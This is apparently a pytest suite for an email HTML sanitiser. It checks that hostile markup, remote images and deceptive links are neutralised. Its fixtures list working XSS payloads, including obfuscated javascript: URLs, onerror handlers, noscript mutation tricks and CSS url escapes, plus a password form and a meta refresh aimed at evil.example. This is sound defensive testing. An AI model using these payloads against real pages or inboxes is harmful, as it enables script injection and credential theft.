"""What a mail may do inside the page that shows it: nothing but be read."""

from __future__ import annotations

import hashlib
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mail.parse import parse
from mail.sanitise import sanitise
from tests.mails.mime.case import PNG, b64, mail


def safe(html: str) -> str:
    return sanitise(html, cid_url=lambda content_id: f"/a/{content_id}" if content_id == "logo@x" else None).html


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" java\tscript:alert(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        '<a href="/relative">x</a>',
        "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
        "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
        "<iframe src=https://evil.example></iframe>",
        "<object data=https://evil.example></object>",
        "<embed src=https://evil.example>",
        "<form action=https://evil.example><input name=password><button>Go</button></form>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href=https://evil.example>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import url(https://evil.example/x.css)</style>",
        "<video src=https://evil.example/v></video><audio src=https://evil.example/a></audio>",
        "<table background=https://evil.example/bg.png><tr><td>x</table>",
        "<div style='background:url(https://evil.example/x.png)'>x</div>",
        "<div style='background-image:u\\72l(https://evil.example/x.png)'>x</div>",
        "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
        "<div style='margin-left:-9999px'>x</div>",
        "<img srcset='https://evil.example/1.png 1x' src=''>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<textarea></textarea><script>alert(1)</script>",
        "<p id=main class=button name=x>x</p>",
    ],
)
def test_hostile_html_is_harmless(hostile: str) -> None:
    shown = safe(hostile)
    assert not re.search(
        r"<(script|svg|math|iframe|object|embed|form|input|button|meta|base|link|style|video|audio|textarea)", shown
    )
    assert not re.search(r"\s(on\w+|id|class|name|srcset|background|action)=", shown)
    assert not re.search(r"javascript:|url\(|position|-9999|evil\.example|href=\"(data|/)", shown)


def test_remote_images_wait_for_a_person() -> None:
    result = sanitise(
        '<img src="https://img.example/a.png?x=1&amp;y=2" alt="A"><img src="//img.example/b.png">', cid_url=_none
    )
    assert result.remote_images == 2
    assert ' src="https' not in result.html
    assert 'data-remote-src="https://img.example/a.png?x=1&amp;y=2"' in result.html
    assert 'data-remote-src="https://img.example/b.png"' in result.html


def test_marker_of_remote_images_cannot_be_forged() -> None:
    forged = "postroom-remote:https://evil.example/x.png"
    result = sanitise(
        f'<img src="{forged}"><p>&lt;img src="{forged}"</p><img alt=\'<img src="{forged}"\'>', cid_url=_none
    )
    assert result.remote_images == 0
    assert "data-remote-src" not in result.html


def test_images_by_their_location_are_the_attachments() -> None:
    attached = {"https://img.example/a.png": "/a/1", "b.png": "/a/2"}
    result = sanitise(
        '<img src="https://img.example/a.png"><img src="b.png"><img src="c.png"><img src="https://img.example/d.png">',
        cid_url=attached.get,
    )
    assert re.findall(r' src="(/[^"]*)"', result.html) == ["/a/1", "/a/2"]
    assert result.remote_images == 1


def test_cid_images_are_the_attachments() -> None:
    assert safe('<img src="cid:logo@x">') == '<img src="/a/logo@x">'
    assert safe('<img src="cid:missing@x" alt="gone">') == '<img alt="gone">'


def test_data_images_are_asked_for_by_the_id_that_parsing_gave_them() -> None:
    html = f'<p><img src="data:image/png;base64,{b64(PNG).decode().replace(chr(13) + chr(10), "")}"></p>'
    (attachment,) = parse(mail(html, "Content-Type: text/html")).email.attachments
    assert attachment.sha256 == hashlib.sha256(PNG).hexdigest()
    shown = sanitise(html, cid_url=lambda content_id: "/a/1" if content_id == attachment.content_id else None).html
    assert shown == '<p><img src="/a/1"></p>'


def test_links_open_outside_and_say_where_they_go() -> None:
    shown = safe('<a href="https://example.com/a?b=1&amp;c=2" title="click">here</a>')
    assert 'target="_blank"' in shown
    assert 'rel="noopener noreferrer nofollow"' in shown
    assert 'title="https://example.com/a?b=1&amp;c=2"' in shown


@pytest.mark.parametrize(
    ("text", "target", "suffix"),
    [
        ("www.bank.example", "https://evil.example/login", " [evil.example]"),
        ("<b>https://bank.example/</b>", "https://bank.example.evil.example/", " [bank.example.evil.example]"),
        ("bank.example", "https://www.bank.example/", ""),
        ("https://bank.example/a", "https://bank.example/b", ""),
        ("click here", "https://evil.example/", ""),
    ],
)
def test_text_that_names_another_host_is_followed_by_the_real_one(text: str, target: str, suffix: str) -> None:
    assert safe(f'<a style="color:red" href="{target}">{text}</a>').endswith(f"</a>{suffix}")


def test_harmless_layout_stays() -> None:
    html = '<table width="600"><tbody><tr><td align="left" style="color:red;padding:4px">x</td></tr></tbody></table>'
    assert safe(html) == html


def test_deep_nesting_is_shown_as_text() -> None:
    result = sanitise("<div>" * 20_000 + "At the bottom", cid_url=_none)
    assert result.shortened
    assert result.html == "<pre>At the bottom</pre>"


@settings(deadline=None)
@given(st.text(alphabet=st.sampled_from("<>/=\"' :;&#aimgsrcstylehrefonx()\\\0\u202e"), max_size=200))
def test_nothing_that_is_typed_becomes_active(html: str) -> None:
    shown = safe(html)
    assert not re.search(r"<(script|style|svg|iframe)|<[^>]*\son\w+=|javascript:", shown)
    assert "\0" not in shown


def _none(_: str) -> None:
    return None
